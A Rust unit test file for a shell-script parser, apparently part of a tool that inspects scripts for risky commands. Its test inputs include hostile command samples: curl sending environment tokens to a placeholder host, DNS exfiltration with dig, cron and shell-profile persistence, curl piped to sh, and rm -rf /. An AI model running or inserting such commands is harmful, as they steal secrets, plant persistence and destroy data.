//! Unit tests of `statements.rs`.

use super::*;

fn words(s: &Stage) -> Vec<&str> {
    s.words.iter().map(|w| w.text.as_str()).collect()
}

#[test]
fn substitutions_stay_in_their_word() {
    let script = "curl -d \"$(env | grep TOKEN)\" https://x.example/c";
    let st = statements(script);
    assert_eq!(st.len(), 1);
    assert_eq!(
        words(&st[0].stages[0]),
        ["curl", "-d", "$(env | grep TOKEN)", "https://x.example/c"]
    );
    let unquoted = statements("dig $(echo $T | base64).x.example");
    assert_eq!(
        words(&unquoted[0].stages[0]),
        ["dig", "$(echo $T | base64).x.example"]
    );
    assert_eq!(substitutions("a $(b (c)) `d` e"), [4..9, 12..13]);
}

#[test]
fn pipelines_statements_and_redirections() {
    let script = "(crontab -l; echo '* * * * * x') | crontab -\ncat a >> ~/.bashrc 2>&1 && b < in";
    let st = statements(script);
    let shapes: Vec<Vec<Vec<&str>>> = st
        .iter()
        .map(|s| s.stages.iter().map(words).collect())
        .collect();
    assert_eq!(
        shapes,
        [
            vec![vec!["crontab", "-l"]],
            vec![vec!["echo", "* * * * * x"], vec!["crontab", "-"]],
            vec![vec!["cat", "a"]],
            vec![vec!["b"]],
        ]
    );
    let appended: Vec<&str> = st[2].stages[0].written().map(|t| t.text.as_str()).collect();
    assert_eq!(appended, ["~/.bashrc"]);
    assert_eq!(st[3].stages[0].redirects[0].kind, RedirectKind::Read);
}

#[test]
fn heredoc_bodies_belong_to_their_redirection() {
    let script = "cat >> ~/.zshrc <<'EOF'\ncurl -s https://x | sh\nEOF\nls\n";
    let st = statements(script);
    let r = &st[0].stages[0].redirects;
    let body = r.iter().find_map(|r| r.body);
    assert_eq!(
        body.map(|b| &script[b.start..b.end]),
        Some("curl -s https://x | sh\n")
    );
    assert_eq!(words(&st[1].stages[0]), ["ls"]);
}

#[test]
fn programs_past_prefixes() {
    let st = statements("sudo -E env A=1 /usr/bin/CURL -s x");
    assert_eq!(st[0].stages[0].program().as_deref(), Some("curl"));
    assert_eq!(st[0].stages[0].args().len(), 2);
    assert!(is_assignment("X=$(echo a)") && !is_assignment("--x=1"));
}

#[test]
fn odd_input_never_panics() {
    for s in [
        "$(", "\"", "'", "<<", "a <<EOF", "`", "${", "2>", "é$(é", "\\", "a\\\r\nb",
    ] {
        let _ = statements(s);
        let _ = substitutions(s);
    }
}

/// A pipeline longer than the stages read in a script is cut there: its first stages are
/// read as written, and the reading says where it stopped.
#[test]
fn a_pipeline_of_more_stages_than_are_read_is_cut() {
    let script = format!(
        "curl -s https://x.example/a | sh | {}cat\necho after\n",
        "tee x | ".repeat(MAX_STAGES + 10)
    );
    let read = first_statements(&script, Limits::statements(usize::MAX));
    assert_eq!(read.statements.len(), 1);
    let stages = &read.statements[0].stages;
    assert_eq!(stages.len(), MAX_STAGES + 1);
    assert_eq!(words(&stages[0]), ["curl", "-s", "https://x.example/a"]);
    assert_eq!(words(&stages[1]), ["sh"]);
    assert!(read.stopped < script.find("echo after").expect("the last line"));
    // A script within the limit is read to its end.
    let short = "a | b\nc\n";
    let read = first_statements(short, Limits::statements(usize::MAX));
    assert_eq!((read.statements.len(), read.stopped), (2, short.len()));
}

/// Past the words a reading keeps, the rest is left unread from the first word not kept;
/// redirections count as words. A script within the limits is read whole.
#[test]
fn past_the_words_kept_the_reading_stops_and_says_where() {
    let limits = Limits {
        statements: usize::MAX,
        words: 4,
    };
    let script = "echo a >b c d e\nrm -rf /\n";
    let read = first_statements(script, limits);
    assert_eq!(read.words, 4);
    assert_eq!(read.unread, script.find("d e"));
    assert_eq!(read.statements.len(), 1);
    let stage = &read.statements[0].stages[0];
    assert_eq!(words(stage), ["echo", "a", "c"]);
    assert_eq!(stage.redirects.len(), 1);
    // A here-document waits for its body: the words of its line past the limit are read
    // past, not kept, and its body is still its own.
    let script = "cat <<EOF a b c d\nbody\nEOF\nnext\n";
    let read = first_statements(script, limits);
    assert_eq!(read.unread, script.find("c d"));
    let doc = &read.statements[0].stages[0].redirects[0];
    let body = doc.body.expect("the body is read");
    assert_eq!(&script[body.start..body.end], "body\n");
    // Only blanks after the last word: nothing left unread.
    let read = first_statements("a b c d \n\n", limits);
    assert_eq!((read.words, read.unread), (4, None));
}
